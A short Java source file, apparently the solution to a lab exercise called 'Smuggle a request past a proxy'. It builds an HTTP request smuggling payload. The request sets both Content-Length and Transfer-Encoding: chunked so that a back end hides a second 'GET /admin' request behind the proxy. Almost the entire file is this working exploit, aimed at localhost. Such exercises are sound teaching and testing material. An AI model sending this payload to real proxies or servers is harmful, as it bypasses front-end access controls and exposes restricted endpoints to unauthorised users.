package wireup.handshake;

import static java.nio.charset.StandardCharsets.US_ASCII;

/** The exercise «Smuggle a request past a proxy». */
final class Attack {

    private Attack() {}

    /** One request to whoever goes by Content-Length, and two to whoever goes by Transfer-Encoding. */
    static byte[] request() {
        return bytes().getBytes(US_ASCII);
    }

    private static String bytes() {
        String hidden = "GET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n";
        String body = "0\r\n\r\n" + hidden;
        return "GET / HTTP/1.1\r\nHost: localhost\r\nContent-Length: " + body.length()
                + "\r\nTransfer-Encoding: chunked\r\n\r\n" + body;
    }
}
